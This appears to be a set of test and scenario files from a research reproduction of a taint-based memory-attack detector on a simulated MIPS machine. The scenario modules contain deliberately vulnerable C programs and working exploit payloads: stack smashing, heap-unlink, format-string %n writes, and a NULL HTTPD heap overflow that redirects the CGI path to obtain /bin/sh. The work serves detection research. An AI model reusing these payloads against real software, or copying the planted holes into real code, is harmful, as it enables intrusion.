        code, output = run_cli("run", victim_file, "--stdin-text", "bob")
        assert code == 0
        assert "returned" in output
        assert "EXIT status=0" in output

    def test_attack_run_exit_code_2(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24
        )
        assert code == 2
        assert "ALERT" in output
        assert "0x61616161" in output

    def test_policy_none_lets_attack_proceed(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24, "--policy", "none"
        )
        assert code == 3          # wild jump ends in a machine fault
        assert "FAULT" in output

    def test_explain_flag_produces_forensics(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24, "--explain"
        )
        assert "SECURITY ALERT" in output
        assert "in function: main" in output
        assert "jr $31" in output

    def test_pipeline_engine_flag(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24, "--pipeline"
        )
        assert code == 2

    def test_caches_flag(self, victim_file):
        code, _ = run_cli(
            "run", victim_file, "--stdin-text", "hi", "--caches"
        )
        assert code == 0

    def test_stdin_file(self, victim_file, tmp_path):
        payload = tmp_path / "payload.bin"
        payload.write_bytes(b"a" * 24)
        code, _ = run_cli(
            "run", victim_file, "--stdin-file", str(payload)
        )
        assert code == 2

    def test_conflicting_stdin_options_rejected(self, victim_file, tmp_path):
        payload = tmp_path / "p.bin"
        payload.write_bytes(b"x")
        with pytest.raises(SystemExit):
            run_cli(
                "run", victim_file,
                "--stdin-text", "x", "--stdin-file", str(payload),
            )

    def test_argv_forwarding(self, tmp_path):
        path = tmp_path / "args.c"
        path.write_text(
            'int main(int argc, char **argv) {'
            ' printf("%d %s", argc, argv[1]); return argc; }'
        )
        code, output = run_cli("run", str(path), "--arg", "hello")
        assert code == 2          # main returned argc
        assert "2 hello" in output


class TestCliTaintLabels:
    def test_run_taint_labels_explain_shows_provenance(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24,
            "--taint-labels", "--explain",
        )
        assert code == 2
        assert "tainted by:" in output
        assert "read(fd=0)" in output

    def test_run_without_labels_has_no_provenance_section(self, victim_file):
        code, output = run_cli(
            "run", victim_file, "--stdin-text", "a" * 24, "--explain"
        )
        assert code == 2
        assert "tainted by:" not in output


class TestCliForensicsCommand:
    def test_forensics_renders_provenance_and_metrics(self, victim_file):
        code, output = run_cli(
            "forensics", victim_file, "--stdin-text", "a" * 24,
            "--provenance",
        )
        assert code == 2
        assert "SECURITY ALERT" in output
        assert "provenance:" in output
        assert "read(fd=0)" in output
        assert "input bytes" in output
        assert "taint.labels.allocated:" in output
        assert "taint.labelsets.interned:" in output

    def test_forensics_json_validates_with_provenance(
        self, victim_file, tmp_path
    ):
        path = tmp_path / "result.json"
        code, _ = run_cli(
            "forensics", victim_file, "--stdin-text", "a" * 24,
            "--json", str(path),
        )
        assert code == 2
        payload = validate_result_json(json.loads(path.read_text()))
        entries = payload["stats"]["provenance"]
        assert entries
        assert all(e["syscall"] == "read" for e in entries)

    def test_forensics_clean_run(self, victim_file):
        code, output = run_cli(
            "forensics", victim_file, "--stdin-text", "bob"
        )
        assert code == 0
        assert "EXIT status=0" in output


class TestCliAsm:
    def test_asm_subcommand(self, tmp_path):
        path = tmp_path / "prog.s"
        path.write_text(
            ".text\n_start:\nli $v0,1\nli $a0,7\nsyscall\n"
        )
        code, output = run_cli("asm", str(path))
        assert code == 7
        assert "EXIT status=7" in output


class TestCliDisasmAndReport:
    def test_disasm(self, victim_file):
        code, output = run_cli("disasm", victim_file)
        assert code == 0
        assert "_start:" in output
        assert "main:" in output

    def test_report_fig1(self):
        code, output = run_cli("report", "fig1")
        assert code == 0
        assert "67" in output

    def test_report_table4(self):
        code, output = run_cli("report", "table4")
        assert code == 0
        assert output.count("NO (escapes)") == 3

    def test_unknown_report_rejected(self):
        with pytest.raises(SystemExit):
            run_cli("report", "table99")


class TestForensics:
    def test_explain_detected_run(self):
        result = exp3_scenario().run_attack(PointerTaintPolicy())
        report = explain(result)
        assert "SECURITY ALERT" in report
        assert "0x64636261" in report
        assert "store" in report
        assert "recent instructions:" in report
        assert "tainted registers at stop:" in report

    def test_explain_marks_tainted_bytes_uppercase(self):
        result = exp3_scenario().run_attack(PointerTaintPolicy())
        # The format buffer itself is tainted; dump it.
        sim = result.sim
        lines = hexdump(sim.memory, result.alert.pointer_value, 16)
        assert lines  # rendering worked; wild region may be all zeros

    def test_hexdump_gutter_matches_taint(self):
        result = run_minic(
            "int main(void) { char b[16]; read(0, b, 8); return 0; }",
            PointerTaintPolicy(),
            stdin=b"ABCDEFGH",
        )
        # Find the buffer: it is on the stack; instead dump a data address
        # we control via the string pool -- simpler: re-run reading into a
        # global.
        result = run_minic(
            "char g[16];\n"
            "int main(void) { read(0, g, 8); return 0; }",
            PointerTaintPolicy(),
            stdin=b"ABCDEFGH",
        )
        address = result.sim.executable.address_of("_g_g")
        lines = hexdump(result.sim.memory, address, 8)
        assert any("TTTTTTTT" in line for line in lines)
        assert any("41 42 43 44" in line.lower() for line in lines)

    def test_explain_clean_exit(self):
        result = run_minic("int main(void) { return 0; }")
        report = explain(result)
        assert "EXIT status=0" in report
        assert "SECURITY ALERT" not in report

    def test_explain_unprotected_attack_counts_wild_derefs(self):
        result = exp3_scenario().run_attack(NullPolicy())
        report = explain(result)
        assert "tainted dereference(s) went unchecked" in report

    def test_provenance_report_label_mode(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
            taint_labels=True,
        )
        report = provenance_report(result)
        assert "tainted by:" in report
        assert "read(fd=0)" in report
        assert "input bytes" in report

    def test_provenance_report_bit_mode_points_at_label_mode(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
        )
        assert "taint_labels=True" in provenance_report(result)

    def test_provenance_report_without_alert(self):
        result = run_minic("int main(void) { return 0; }")
        assert "no alert" in provenance_report(result)

    def test_recent_trace_disassembles(self):
        result = exp1_scenario().run_attack(PointerTaintPolicy())
        trail = recent_trace(result, count=4)
        assert len(trail) == 4
        assert "jr $31" in trail[-1]
