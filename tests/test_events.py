"""The structured event bus: subscription, ordering, zero-cost fast path."""

import pytest

from repro.core.detector import SecurityException
from repro.core.events import (
    EVENT_TYPES,
    EventBus,
    EventLog,
    InstructionRetired,
    MemoryFaulted,
    SyscallEnter,
    SyscallExit,
    TaintPropagated,
    TaintedDereference,
)
from repro.core.policy import PointerTaintPolicy
from repro.cpu.simulator import Simulator, SimulatorFault
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel

#: Same boundary as test_simulator_taint: read 8 tainted bytes into ``buf``,
#: leave a tainted word in $t0 and a clean one in $t1.
READ_PREAMBLE = """
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 8
    syscall
    la $t9, buf
    lw $t0, 0($t9)
    li $t1, 0x01010101
"""

DATA = "buf: .space 16\nout: .space 16"


def make_sim(body, stdin=b"abcdefgh", policy=None):
    """Build a ready-to-run simulator so tests can subscribe before running."""
    source = (
        ".text\n_start:\n" + READ_PREAMBLE + body +
        "\n    li $v0, 1\n    li $a0, 0\n    syscall\n.data\n" + DATA
    )
    exe = assemble(source)
    kernel = Kernel(stdin=stdin)
    sim = Simulator(
        exe,
        policy if policy is not None else PointerTaintPolicy(),
        syscall_handler=kernel,
    )
    kernel.attach(sim)
    return sim


class TestEventBusUnit:
    def test_subscribe_and_emit_in_order(self):
        bus = EventBus()
        seen = []
        bus.subscribe(SyscallEnter, lambda e: seen.append(("a", e.number)))
        bus.subscribe(SyscallEnter, lambda e: seen.append(("b", e.number)))
        bus.emit(SyscallEnter(pc=0, number=4))
        assert seen == [("a", 4), ("b", 4)]
        assert bus.events_emitted == 1

    def test_unsubscribe(self):
        bus = EventBus()
        seen = []
        handler = bus.subscribe(SyscallEnter, seen.append)
        bus.unsubscribe(SyscallEnter, handler)
        bus.emit(SyscallEnter(pc=0, number=4))
        assert seen == []
        assert not bus.has_subscribers(SyscallEnter)
        # Removing twice is a no-op, not an error.
        bus.unsubscribe(SyscallEnter, handler)

    def test_unknown_event_type_rejected(self):
        bus = EventBus()
        with pytest.raises(TypeError):
            bus.subscribe(int, lambda e: None)

    def test_subscriber_lists_have_stable_identity(self):
        """Engines capture the list once; later subscriptions must land in
        the same object for the captured guard to see them."""
        bus = EventBus()
        captured = bus.subscribers(InstructionRetired)
        assert not captured
        bus.subscribe(InstructionRetired, lambda e: None)
        assert captured  # same list object, now truthy

    def test_every_event_type_registered(self):
        bus = EventBus()
        for event_type in EVENT_TYPES:
            assert bus.subscribers(event_type) == []


class TestRetirementStream:
    def test_every_instruction_retires_once(self):
        sim = make_sim("add $s0, $t0, $t1")
        log = EventLog(sim.events, (InstructionRetired,))
        sim.run()
        retired = log.of(InstructionRetired)
        assert len(retired) == sim.stats.instructions
        assert [e.index for e in retired] == list(
            range(1, sim.stats.instructions + 1)
        )

    def test_retired_pcs_match_recent_ring(self):
        sim = make_sim("add $s0, $t0, $t1")
        log = EventLog(sim.events, (InstructionRetired,))
        sim.run()
        pcs = [e.pc for e in log.of(InstructionRetired)]
        assert pcs[-len(sim.recent_pcs):] == list(sim.recent_pcs)

    def test_trace_hook_shim_bridges_to_events(self):
        sim = make_sim("add $s0, $t0, $t1")
        seen = []
        sim.trace_hook = lambda s, pc, instr: seen.append((s, pc, instr.name))
        sim.run()
        assert len(seen) == sim.stats.instructions
        assert all(entry[0] is sim for entry in seen)
        sim.trace_hook = None
        assert not sim.events.has_subscribers(InstructionRetired)


class TestAlertOrdering:
    def test_detection_event_fires_and_instruction_never_retires(self):
        sim = make_sim("lw $s0, 0($t0)")
        log = EventLog(sim.events, (InstructionRetired, TaintedDereference))
        with pytest.raises(SecurityException) as info:
            sim.run()
        alert = info.value.alert
        detections = log.of(TaintedDereference)
        assert len(detections) == 1
        assert detections[0].kind == "load"
        assert detections[0].alert is alert
        # The malicious instruction is marked, not retired: the last event
        # overall is the detection, and no retirement carries its pc.
        assert type(log.events[-1]) is TaintedDereference
        retired = log.of(InstructionRetired)
        assert alert.pc not in [e.pc for e in retired]
        assert retired[-1].index == alert.instruction_index - 1

    def test_pipeline_emits_identical_event_stream(self):
        from repro.cpu.pipeline import Pipeline

        streams = []
        for engine in ("functional", "pipeline"):
            sim = make_sim("lw $s0, 0($t0)")
            log = EventLog(
                sim.events, (InstructionRetired, TaintedDereference)
            )
            with pytest.raises(SecurityException):
                if engine == "pipeline":
                    Pipeline(sim).run()
                else:
                    sim.run()
            streams.append(
                [
                    (type(e).__name__, e.pc)
                    for e in log.events
                ]
            )
        assert streams[0] == streams[1]


class TestZeroSubscriberFastPath:
    def test_no_events_allocated_without_subscribers(self):
        sim = make_sim("add $s0, $t0, $t1\nsw $t0, 0($t9)")
        sim.run()
        assert sim.events.events_emitted == 0

    def test_alerting_run_allocates_nothing_without_subscribers(self):
        sim = make_sim("lw $s0, 0($t0)")
        with pytest.raises(SecurityException):
            sim.run()
        assert sim.events.events_emitted == 0


class TestSyscallEvents:
    def test_enter_and_exit_bracket_each_trap(self):
        sim = make_sim("nop")
        log = EventLog(sim.events, (SyscallEnter, SyscallExit))
        sim.run()
        enters = log.of(SyscallEnter)
        exits = log.of(SyscallExit)
        assert [e.number for e in enters] == [3, 1]  # read, exit
        assert len(exits) == len(enters)
        assert exits[0].result == 8  # read returned 8 bytes


class TestTaintPropagationEvents:
    def test_register_destination(self):
        sim = make_sim("add $s0, $t0, $t1")
        log = EventLog(sim.events, (TaintPropagated,))
        sim.run()
        regs = [
            e for e in log.of(TaintPropagated) if e.dest_kind == "reg"
        ]
        assert any(e.dest == 16 and e.taint == 0xF for e in regs)  # $s0

    def test_memory_and_hilo_destinations(self):
        sim = make_sim(
            "la $t2, out\nsw $t0, 0($t2)\nmult $t0, $t1\nmflo $s1"
        )
        log = EventLog(sim.events, (TaintPropagated,))
        sim.run()
        kinds = {e.dest_kind for e in log.of(TaintPropagated)}
        assert {"mem", "hilo", "reg"} <= kinds

    def test_clean_results_emit_nothing(self):
        sim = make_sim("add $s0, $t1, $t1", stdin=b"")
        log = EventLog(sim.events, (TaintPropagated,))
        sim.run()
        assert log.of(TaintPropagated) == []


class TestMemoryFaultEvents:
    def test_bad_fetch_publishes_fault(self):
        sim = make_sim("li $t5, 0x100\njr $t5")
        log = EventLog(sim.events, (MemoryFaulted,))
        with pytest.raises(SimulatorFault):
            sim.run()
        faults = log.of(MemoryFaulted)
        assert len(faults) == 1
        assert faults[0].pc == 0x100
        assert "outside text segment" in faults[0].message
