"""Experiment harness tests: Figure 1 numbers, reports, coverage matrix."""

import pytest

from repro.evalx.cert import (
    ADVISORIES,
    BUFFER_OVERFLOW,
    MEMORY_CORRUPTION_CLASSES,
    OTHERS,
    analyzed_advisories,
    breakdown,
    category_counts,
    figure1_rows,
    memory_corruption_share,
)
from repro.evalx.experiments import (
    report_fig1,
    report_fig2,
    report_table2,
    report_table4,
    run_coverage_matrix,
    run_fig1,
    run_synthetic_detections,
    run_table2,
    run_table4,
    shadow_state_overhead,
)
from repro.evalx.reporting import check, render_kv, render_table


class TestCertDataset:
    def test_corpus_covers_2000_to_2003(self):
        years = {adv.advisory_id[3:7] for adv in ADVISORIES}
        assert years == {"2000", "2001", "2002", "2003"}

    def test_advisory_ids_unique(self):
        ids = [adv.advisory_id for adv in ADVISORIES]
        assert len(ids) == len(set(ids))

    def test_paper_analyzed_107_advisories(self):
        assert len(analyzed_advisories()) == 107

    def test_memory_corruption_share_is_67_percent(self):
        assert memory_corruption_share() == pytest.approx(67.0, abs=1.0)

    def test_buffer_overflow_dominates(self):
        rows = figure1_rows()
        assert rows[0][0] == BUFFER_OVERFLOW
        assert rows[0][2] > 40.0

    def test_every_figure1_class_present(self):
        counts = category_counts()
        for category in MEMORY_CORRUPTION_CLASSES:
            assert counts[category] > 0, category

    def test_breakdown_sums_to_100(self):
        assert sum(breakdown().values()) == pytest.approx(100.0)

    def test_known_ground_truth_labels(self):
        by_id = {adv.advisory_id: adv for adv in ADVISORIES}
        assert by_id["CA-2001-13"].category == BUFFER_OVERFLOW  # Code Red
        assert by_id["CA-2002-07"].category == "heap-corruption"  # zlib
        assert by_id["CA-2000-13"].category == "format-string"  # wu-ftpd
        assert by_id["CA-2001-07"].category == "globbing"
        assert by_id["CA-2002-17"].category == "integer-overflow"  # Apache

    def test_excluded_entries_are_activity_reports(self):
        excluded = [adv for adv in ADVISORIES if not adv.analyzed]
        assert len(excluded) == len(ADVISORIES) - 107
        worm_like = sum(
            1 for adv in excluded
            if "Worm" in adv.title or "Trojan" in adv.title
            or "Activity" in adv.title or "Exploit" in adv.title
            or "Threat" in adv.title or "Code" in adv.title
        )
        assert worm_like == len(excluded)


class TestReports:
    def test_fig1_report_mentions_67(self):
        text = report_fig1()
        assert "67" in text
        assert "buffer-overflow" in text

    def test_fig2_report_lists_all_three(self):
        text = report_fig2()
        for name in ("exp1", "exp2", "exp3"):
            assert name in text
        assert text.count("ALERT") == 3

    def test_table2_report_matches_paper_transcript(self):
        text = report_table2()
        assert "site exec \\x20\\xbc\\x02\\x10%x%x%x%x%x%x%n" in text
        assert "0x1002bc20" in text
        assert "alice:x:0:0::/home/root:/bin/bash" in text

    def test_table4_report_shows_three_escapes(self):
        text = report_table4()
        assert text.count("NO (escapes)") == 3

    def test_shadow_state_numbers(self):
        shadow = shadow_state_overhead()
        assert shadow["memory_overhead_pct"] == 12.5
        assert shadow["register_bits_per_register"] == 4.0


class TestRunners:
    def test_synthetic_detections_all_alert(self):
        records = run_synthetic_detections()
        assert len(records) == 3
        assert all(r.detected for r in records)
        pointers = {r.scenario: r.pointer for r in records}
        assert pointers["exp1-stack-smash"] == 0x61616161
        assert pointers["exp3-format-string"] == 0x64636261

    def test_table2_runner_verdicts(self):
        data = run_table2()
        assert data["result"].detected
        assert not data["unprotected"].detected
        assert b"alice" in data["passwd_after"]

    def test_table4_runner_rows(self):
        rows = run_table4()
        assert len(rows) == 3
        assert not any(row.detected for row in rows)
        assert all(row.damage != "none" for row in rows)

    def test_coverage_matrix_tells_the_papers_story(self):
        matrix = {row["scenario"]: row for row in run_coverage_matrix()}
        real_attacks = [
            "exp1-stack-smash", "exp2-heap-corruption", "exp3-format-string",
            "wuftpd-site-exec", "nullhttpd-heap", "ghttpd-url-pointer",
            "traceroute-double-free",
        ]
        # The paper's defense detects all seven attacks.
        assert all(matrix[name]["pointer-taintedness"] for name in real_attacks)
        # The control-flow-integrity baseline catches ONLY the control-data one.
        assert matrix["exp1-stack-smash"]["control-data-only"]
        for name in real_attacks[1:]:
            assert not matrix[name]["control-data-only"], name
        # Every attack compromises an unprotected machine.
        assert all(matrix[name]["compromise"] for name in real_attacks)
        # The Table 4 scenarios evade both detectors.
        for name in (
            "table4a-integer-overflow", "table4b-auth-flag",
            "table4c-format-leak",
        ):
            assert not matrix[name]["pointer-taintedness"]
            assert matrix[name]["compromise"]

    def test_fig1_runner_structure(self):
        data = run_fig1()
        assert len(data["rows"]) == 6
        assert data["memory_share"] > 60


class TestRendering:
    def test_render_table_alignment(self):
        table = render_table(["a", "long header"], [["x", 1], ["yy", 22]])
        lines = table.splitlines()
        assert len({len(line) for line in lines}) == 1  # rectangular

    def test_render_table_with_title(self):
        assert render_table(["h"], [["v"]], title="T").startswith("T\n")

    def test_render_kv(self):
        text = render_kv([("k", "v"), ("n", 3)], title="facts:")
        assert "facts:" in text and "k: v" in text and "n: 3" in text

    def test_check_labels(self):
        assert check(True) == "DETECTED"
        assert check(False) == "missed"
