"""Mini NULL HTTPD: the negative Content-Length heap attack (s5.1.2).

The published vulnerability (BID-5774): a POST with a negative
``Content-Length`` makes the server under-allocate its body buffer
(``calloc(1024 + contentlength)``) while still receiving a full-sized body
-- a heap overflow into the allocator's free-chunk metadata.

The paper's **non-control-data** exploit does not hijack control flow: the
corrupted chunk's fd/bk links make ``free()``'s unlink write the word
``"bin\\0"`` into the server's CGI-BIN configuration string, turning
``/usr/local/httpd/cgi-bin`` into ``/bin`` -- after which an ordinary
``GET /cgi-bin/sh`` request makes the server execute ``/bin/sh`` with its
own (root) privileges.
"""

from __future__ import annotations

from typing import List

from ..attacks.payloads import le32
from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
from ..isa.program import Executable
from ..kernel.network import ScriptedClient
from ..libc.build import build_program

NULLHTTPD_SOURCE = r"""
char cgi_bin[64] = "/usr/local/httpd/cgi-bin";

void handle_get(int fd, char *url) {
    char path[512];
    char *sp;
    sp = strchr(url, ' ');
    if (sp) {
        *sp = 0;                   /* strip " HTTP/1.0" */
    }
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        sprintf(path, "%s%s", cgi_bin, url + 8);
        exec(path);
        send_str(fd, "200 CGI executed\r\n");
        return;
    }
    send_str(fd, "200 OK static\r\n");
}

/* BID-5774: content_length is attacker-controlled and may be negative. */
void handle_post(int fd, int content_length) {
    char *body;
    int n;
    body = calloc(1024 + content_length, 1);
    if (body == 0) {
        send_str(fd, "500 Internal error\r\n");
        return;
    }
    n = recv(fd, body, 1024);      /* reads a full body regardless */
    send_str(fd, "200 OK posted\r\n");
    free(body);                    /* detonation: unlink of tainted links */
}

int main(void) {
    int s;
    int c;
    int n;
    int content_length;
    char req[1024];
    char header[256];
    char *tmp;
    char *tmp2;
    /* Ordinary server activity seeds the heap: a freed chunk sits in the
       bin, later split by the POST body allocation. */
    tmp = malloc(480);
    tmp2 = malloc(16);
    free(tmp);
    s = server_listen(80);
    if (s < 0) {
        return 1;
    }
    while (1) {
        c = accept(s);
        if (c < 0) {
            break;
        }
        n = recv_line(c, req, 1024);
        if (n > 0) {
            if (strncmp(req, "POST ", 5) == 0) {
                content_length = 0;
                while (1) {
                    n = recv_line(c, header, 256);
                    if (n < 1) {
                        break;          /* blank line: end of headers */
                    }
                    if (header[0] == '\r') {
                        break;          /* "\r\n" blank line */
                    }
                    if (strncmp(header, "Content-Length:", 15) == 0) {
                        content_length = atoi(header + 15);
                    }
                }
                handle_post(c, content_length);
            } else if (strncmp(req, "GET ", 4) == 0) {
                handle_get(c, req + 4);
            } else {
                send_str(c, "501 Not Implemented\r\n");
            }
        }
        close(c);
    }
    return 0;
}
"""

#: The Content-Length the attack sends: 1024 + (-800) = 224-byte buffer.
ATTACK_CONTENT_LENGTH = -800

#: Usable bytes of the body chunk: request 232 (= (224+11) & ~7) minus the
#: 4-byte header.
BODY_USABLE_BYTES = 228

#: The word the unlink writes over the CGI-BIN string: "bin\0".
BIN_WORD = int.from_bytes(b"bin\0", "little")


def build_nullhttpd() -> Executable:
    return build_program(NULLHTTPD_SOURCE)


def cgi_bin_address() -> int:
    """Data-segment address of the CGI-BIN configuration string."""
    return build_nullhttpd().address_of("_g_cgi_bin")


def overflow_body() -> bytes:
    """POST body overflowing into the adjacent free chunk's metadata.

    Layout past the 228 usable bytes: ``[size|FREE][fd][bk]`` of the free
    remainder chunk.  ``fd = "bin\\0"`` is the value written; ``bk`` points
    one byte into the CGI-BIN string so the write turns it into ``/bin``.
    unlink executes ``bk[0] = fd`` -- a store through the tainted ``bk``.
    """
    corrupted_size = 0x41414141  # odd: keeps the chunk looking free
    return (
        b"A" * BODY_USABLE_BYTES
        + le32(corrupted_size)
        + le32(BIN_WORD)
        + le32(cgi_bin_address() + 1)
    )


def attack_post_session() -> List[bytes]:
    return [
        b"POST /upload HTTP/1.0\r\n",
        b"Content-Length: %d\r\n" % ATTACK_CONTENT_LENGTH,
        b"\r\n",
        overflow_body(),
    ]


def attack_get_session() -> List[bytes]:
    return [b"GET /cgi-bin/sh HTTP/1.0\r\n"]


def attack_clients() -> List[ScriptedClient]:
    """Connection 1 corrupts the heap; connection 2 pops the shell."""
    return [
        ScriptedClient(attack_post_session()),
        ScriptedClient(attack_get_session()),
    ]


def benign_clients() -> List[ScriptedClient]:
    return [
        ScriptedClient(
            [
                b"POST /upload HTTP/1.0\r\n",
                b"Content-Length: 11\r\n",
                b"\r\n",
                b"hello world",
            ]
        ),
        ScriptedClient([b"GET /index.html HTTP/1.0\r\n"]),
        ScriptedClient([b"GET /cgi-bin/stats.cgi HTTP/1.0\r\n"]),
    ]


def nullhttpd_scenario() -> AttackScenario:
    return AttackScenario(
        name="nullhttpd-heap",
        category=NON_CONTROL_DATA,
        description="NULL HTTPD heap overflow rewrites CGI-BIN to /bin",
        source=NULLHTTPD_SOURCE,
        attack_input={"clients": attack_clients},
        benign_input={"clients": benign_clients},
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="section 5.1.2 (NULL HTTPD)",
    )
