"""Synthetic vulnerable programs: Figure 2 (exp1/exp2/exp3) and Table 4.

These are the paper's section 5.1.1 micro-victims, transcribed to MiniC:

* ``exp1`` -- stack buffer overflow via an unbounded ``scanf("%s", buf)``;
* ``exp2`` -- heap overflow into an adjacent free chunk's fd/bk links,
  detonated by ``free()``'s unlink;
* ``exp3`` -- format-string ``%n`` write through a user-supplied format;

and the section 5.3 false-negative scenarios of Table 4:

* ``vuln_a`` -- integer overflow past a flawed (upper-bound-only) index
  check; the compare untaints the index, so the wild store goes undetected;
* ``vuln_b`` -- buffer overflow corrupting an authentication flag: no
  pointer is tainted, so access is granted silently;
* ``leak``   -- format-string ``%x`` information leak: only reads through a
  clean pointer, so the secret escapes undetected (while the ``%n`` variant
  of the same program is caught).
"""

from __future__ import annotations

from ..attacks.payloads import format_write_payload, stack_smash_payload
from ..attacks.scenarios import (
    AttackScenario,
    CONTROL_DATA,
    FALSE_NEGATIVE,
    NON_CONTROL_DATA,
)

# ---------------------------------------------------------------------------
# Figure 2: exp1 -- stack buffer overflow
# ---------------------------------------------------------------------------

EXP1_SOURCE = r"""
void exp1(void) {
    char buf[10];
    scan_string(buf);          /* scanf("%s", buf): unbounded */
}

int main(void) {
    exp1();
    puts("exp1 returned");
    return 0;
}
"""


def exp1_scenario() -> AttackScenario:
    """24 x 'a' rolls over the saved frame pointer and return address;
    the tainted return address 0x61616161 is caught at ``jr $ra``."""
    return AttackScenario(
        name="exp1-stack-smash",
        category=CONTROL_DATA,
        description="Figure 2 stack buffer overflow (return address)",
        source=EXP1_SOURCE,
        attack_input={"stdin": stack_smash_payload(24)},
        benign_input={"stdin": b"short\n"},
        expected_alert_kind="jump",
        detected_by_control_data=True,
        paper_ref="Figure 2 / section 5.1.1",
    )


# ---------------------------------------------------------------------------
# Figure 2: exp2 -- heap corruption via free-chunk unlink
# ---------------------------------------------------------------------------

EXP2_SOURCE = r"""
void exp2(void) {
    char *x;
    char *y;
    char *buf;
    x = malloc(32);            /* seed ... */
    y = malloc(16);            /* ... a bin chunk not adjacent to the top */
    free(x);
    buf = malloc(8);           /* splits x: free remainder B sits after buf */
    scan_string(buf);          /* overflow taints B's size/fd/bk */
    free(buf);                 /* unlink(B): B->fd->bk = B->bk  -> alert */
}

int main(void) {
    exp2();
    puts("exp2 returned");
    return 0;
}
"""


def exp2_scenario() -> AttackScenario:
    """Overflow into the adjacent free chunk; ``free(buf)`` dereferences the
    tainted forward link (0x61616161) inside the allocator."""
    return AttackScenario(
        name="exp2-heap-corruption",
        category=NON_CONTROL_DATA,
        description="Figure 2 heap corruption (free-chunk fd/bk unlink)",
        source=EXP2_SOURCE,
        # 12 usable bytes + size word + fd + bk, all 'a' like the paper.
        attack_input={"stdin": stack_smash_payload(24)},
        benign_input={"stdin": b"ok\n"},
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="Figure 2 / section 5.1.1",
    )


# ---------------------------------------------------------------------------
# Figure 2: exp3 -- format string %n
# ---------------------------------------------------------------------------

EXP3_SOURCE = r"""
void exp3(void) {
    char buf[104];
    read(0, buf, 100);         /* recv(s, buf, 100, 0) in the paper */
    printf(buf);               /* the vulnerability: user data as format */
}

int main(void) {
    exp3();
    puts("exp3 returned");
    return 0;
}
"""


def exp3_scenario() -> AttackScenario:
    """The planted word 0x64636261 ("abcd") is dereferenced by ``%n``'s
    ``*ap = count`` store inside the formatting engine."""
    return AttackScenario(
        name="exp3-format-string",
        category=NON_CONTROL_DATA,
        description="Figure 2 format string attack (%n arbitrary write)",
        source=EXP3_SOURCE,
        attack_input={"stdin": format_write_payload(0x64636261, skid_words=0)},
        benign_input={"stdin": b"plain text, no directives"},
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="Figure 2 / section 5.1.1",
    )


# ---------------------------------------------------------------------------
# Table 4 (A): integer overflow -> out-of-bounds array index
# ---------------------------------------------------------------------------

VULN_A_SOURCE = r"""
int smashed = 0;

void vuln_a(char *input) {
    int array[10];
    int canary[2];             /* lives just below array in the frame */
    int i;
    canary[0] = 42;
    i = atoi(input);
    if (i > 9) {               /* flawed check: no lower bound...      */
        return;                /* ...and the compare untaints i        */
    }
    array[i] = 777;            /* i < 0 writes below array: undetected */
    smashed = canary[0];
}

int main(void) {
    char line[32];
    gets(line);
    vuln_a(line);
    if (smashed != 42) {
        puts("corrupted");
    } else {
        puts("intact");
    }
    return 0;
}
"""


def vuln_a_scenario() -> AttackScenario:
    """A negative index passes the upper-bound-only check; the check's
    compare instruction untainted the index, so the wild store is silent."""
    return AttackScenario(
        name="table4a-integer-overflow",
        category=FALSE_NEGATIVE,
        description="Table 4(A): flawed bound check, negative array index",
        source=VULN_A_SOURCE,
        attack_input={"stdin": b"-2\n"},
        benign_input={"stdin": b"5\n"},
        expected_alert_kind=None,
        detected_by_control_data=False,
        paper_ref="Table 4(A) / section 5.3",
        compromise_check=lambda result: "corrupted" in result.stdout,
    )


# ---------------------------------------------------------------------------
# Table 4 (B): buffer overflow corrupting a critical flag
# ---------------------------------------------------------------------------

VULN_B_SOURCE = r"""
void do_auth(int *flag) {
    char password[32];
    gets(password);
    if (strcmp(password, "secret") == 0) {
        *flag = 1;
    }
}

int vuln_b(void) {
    int auth;
    char buf[8];
    auth = 0;
    do_auth(&auth);            /* line 1 of input: the password   */
    gets(buf);                 /* line 2: overflows into auth     */
    if (auth) {
        return 1;
    }
    return 0;
}

int main(void) {
    if (vuln_b()) {
        puts("access granted");
    } else {
        puts("access denied");
    }
    return 0;
}
"""


def vuln_b_scenario() -> AttackScenario:
    """Overflowing ``buf`` taints the integer ``auth`` but no pointer; the
    flag test reads a tainted value, which is legal, and access is granted."""
    return AttackScenario(
        name="table4b-auth-flag",
        category=FALSE_NEGATIVE,
        description="Table 4(B): overflow corrupts the authenticated flag",
        source=VULN_B_SOURCE,
        attack_input={"stdin": b"wrongpassword\n" + b"A" * 9 + b"\n"},
        benign_input={"stdin": b"wrongpassword\nhi\n"},
        expected_alert_kind=None,
        detected_by_control_data=False,
        paper_ref="Table 4(B) / section 5.3",
        compromise_check=lambda result: "access granted" in result.stdout,
    )


# ---------------------------------------------------------------------------
# Table 4 (C): format string information leak
# ---------------------------------------------------------------------------

LEAK_SOURCE = r"""
void leak(void) {
    int secret_key[1];
    char buf[64];
    secret_key[0] = 0x1337c0de;
    read(0, buf, 60);
    buf[59] = 0;
    printf(buf);
}

int main(void) {
    leak();
    return 0;
}
"""

#: %x directives needed to walk ap across buf (64 bytes) up to the secret.
LEAK_SKID_WORDS = 17


def leak_scenario() -> AttackScenario:
    """``%x`` directives walk ``ap`` through the frame and print the secret;
    no tainted pointer is dereferenced, so nothing is detected."""
    return AttackScenario(
        name="table4c-format-leak",
        category=FALSE_NEGATIVE,
        description="Table 4(C): format-string information leak (%x...)",
        source=LEAK_SOURCE,
        attack_input={"stdin": b"%x" * LEAK_SKID_WORDS},
        benign_input={"stdin": b"hello"},
        expected_alert_kind=None,
        detected_by_control_data=False,
        paper_ref="Table 4(C) / section 5.3",
        compromise_check=lambda result: "1337c0de" in result.stdout,
    )


